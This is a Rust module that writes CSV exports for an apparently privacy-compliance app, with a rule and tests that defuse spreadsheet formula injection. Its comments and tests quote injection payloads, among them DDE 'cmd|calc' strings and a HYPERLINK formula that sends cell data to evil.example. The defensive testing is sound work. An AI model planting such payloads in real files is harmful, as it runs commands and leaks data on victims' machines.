//! Every CSV the app writes (the activity export, the RoPA CSV, the access package's
//! per-category files) goes through [`CsvWriter`]: RFC 4180 as the `csv` crate writes it —
//! comma-separated, CRLF line ends, a field quoted only when it holds a comma, a quote, CR or
//! LF (quotes inside doubled), and a record of one empty field written `""` — with every cell
//! passed through [`defuse`] first.
//!
//! Why defuse: these files hold data that came from outside (customer names and emails from
//! Stripe or a webhook, a processor's event types, an officer's free text). A spreadsheet opens
//! a cell starting with `=`, `+`, `-` or `@` as a formula, so a name like `=HYPERLINK(…)` or
//! `=cmd|'/c calc'!A0` would run on the officer's machine ("CSV injection": OWASP's CSV
//! Injection page; ASVS 5.0 requirement 1.2.10 adds tab and NUL).

use std::borrow::Cow;
use std::io::{self, Write};

/// The characters that make a spreadsheet read a cell as a formula when they lead it: the
/// four formula signs, and tab, CR and NUL (which spreadsheets skip before looking at the
/// next character).
const FORMULA_LEADS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// The one formula-defusing rule: a cell starting with one of [`FORMULA_LEADS`] gets a
/// leading `'` (shown by spreadsheets as text, the quote hidden), unless it is a negative
/// number (`-5`, `-12.50`, `-1e-7`: the amounts in Stripe records stay numbers one can sum;
/// digits, a point and an exponent call nothing). `+…` is always defused: JSON numbers never
/// start with `+`, so such a cell is text (a phone number, say) and stays text.
pub(crate) fn defuse(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_LEADS) && !is_negative_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-` then digits, an optional fraction and an optional exponent — nothing else (not
/// `-inf` or `-NaN`, which Rust's float parser would take).
fn is_negative_number(s: &str) -> bool {
    let Some(rest) = s.strip_prefix('-') else {
        return false;
    };
    let (mantissa, exponent) = match rest.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (rest, None),
    };
    let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((int, frac)) => digits(int) && digits(frac),
        None => digits(mantissa),
    };
    mantissa_ok && exponent.is_none_or(digits)
}

/// Writes CSV records to `W`, each cell defused.
pub(crate) struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        let inner = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(out);
        Self { inner }
    }

    /// One record. Every record of a file must have as many cells as the first.
    pub fn row<I, S>(&mut self, cells: I) -> io::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner
            .write_record(cells.into_iter().map(|c| defuse(c.as_ref()).into_owned()))
            .map_err(io::Error::from)
    }

    /// Flushes what is buffered and hands the output back.
    pub fn finish(mut self) -> io::Result<W> {
        self.inner.flush()?;
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

/// A whole CSV in memory (for files that go into a zip or are written in one piece).
pub fn to_bytes<R, I, S>(rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new());
    for r in rows {
        w.row(r)
            .expect("a CSV record of the file's width, written to memory");
    }
    w.finish().expect("writing to memory does not fail")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(cells: &[&str]) -> String {
        String::from_utf8(to_bytes([cells])).unwrap()
    }

    #[test]
    fn csv_cells_are_quoted_and_defused() {
        assert_eq!(line(&["plain"]), "plain\r\n");
        assert_eq!(line(&["a,b"]), "\"a,b\"\r\n");
        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\r\n");
        assert_eq!(line(&["=1+1"]), "'=1+1\r\n");
        assert_eq!(line(&["a", "", "b"]), "a,,b\r\n");
    }

    #[test]
    fn the_rule_defuses_formulas_but_not_negative_numbers() {
        for (cell, out) in [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "'=HYPERLINK(\"http://x\",\"y\")",
            ),
            ("+1", "'+1"),
            ("+44 20 7946 0000", "'+44 20 7946 0000"),
            ("-2", "-2"),
            ("-12.50", "-12.50"),
            ("-1e-7", "-1e-7"),
            ("-inf", "'-inf"),
            ("-1+cmd", "'-1+cmd"),
            ("-", "'-"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\0=1", "'\0=1"),
            ("a=1", "a=1"),
            ("Müller", "Müller"),
            ("'quoted", "'quoted"),
            ("", ""),
        ] {
            assert_eq!(defuse(cell), out, "{cell:?}");
        }
    }

    /// What each exporter writes, read back with the `csv` crate's reader.
    fn cells(bytes: &[u8]) -> Vec<String> {
        assert!(bytes.ends_with(b"\r\n"), "CRLF line ends");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect()
    }

    /// The activity export, the RoPA CSV and the access package's CSVs all defuse and quote
    /// the same way: each hostile value comes back as `defuse(value)`, never as itself.
    #[test]
    fn every_csv_the_app_writes_follows_the_one_rule() {
        use crate::ingest::{self, model::Incoming};
        use crate::store::processors::{insert, NewProcessor};

        const VALUES: [&str; 8] = [
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
            "+1",
            "-2",
            "@SUM(A1:A9)",
            "\tcmd",
            "say \"hi\", then,\nleave",
            "Müller",
            "-1+cmd|' /C calc'!A0",
        ];
        let dir = tempfile::tempdir().unwrap();
        let ctx = crate::context::Context::open_in_memory_keychain(dir.path()).unwrap();

        // Activity log: the event ids are the processor's data.
        let pid = ctx
            .db
            .write(|c| {
                insert(
                    c,
                    &NewProcessor {
                        name: "Stripe",
                        kind: crate::store::processors::ProcessorKind::Stripe,
                        endpoint_id: Some("0123456789abcdef01234567"),
                        token_hash: None,
                        config: "{}",
                        created_at: 1,
                    },
                )
            })
            .unwrap();
        for (i, v) in VALUES.iter().enumerate() {
            let inc = Incoming {
                event_id: (*v).into(),
                event_type: "customer.updated".into(),
                occurred_at: 1_000 + i as i64,
                livemode: Some(false),
                thin: false,
                data: Default::default(),
            };
            ingest::store_blocking(&ctx.db, ingest::row(pid, "stripe", inc, 2_000, None)).unwrap();
        }
        let path = dir.path().join("activity.csv");
        let q = crate::domain::activity::ActivityQuery::default();
        assert_eq!(
            crate::domain::activity::export_csv(&ctx.db, &q, &path).unwrap(),
            8
        );
        let activity = cells(&std::fs::read(&path).unwrap());

        // RoPA: the officer's free text.
        for v in VALUES {
            let fields = crate::ropa::ActivityFields {
                purpose: v.into(),
                ..Default::default()
            };
            crate::ropa::save_activity(&ctx, None, fields, vec![]).unwrap();
        }
        let ropa = cells(&crate::ropa::export::csv(
            &crate::ropa::report(&ctx).unwrap(),
        ));

        // Access package: a category's records, strings and a number.
        let records: Vec<_> = VALUES
            .iter()
            .map(|v| serde_json::json!({"name": v, "balance": -2}))
            .collect();
        let access = cells(&crate::requests::access::to_csv(&records));

        // (The RoPA trims what the officer typed: its `\tcmd` is `cmd`.)
        let stored = |v: &'static str, trims: bool| if trims { v.trim() } else { v };
        for (what, out, trims) in [
            ("activity", activity, false),
            ("ropa", ropa, true),
            ("access", access, false),
        ] {
            for v in VALUES.map(|v| stored(v, trims)) {
                let defused = defuse(v);
                assert!(out.contains(&defused.to_string()), "{what}: {defused:?}");
                if defused != v {
                    assert!(!out.iter().any(|c| c == v), "{what}: {v:?} left as is");
                }
            }
        }
    }
}
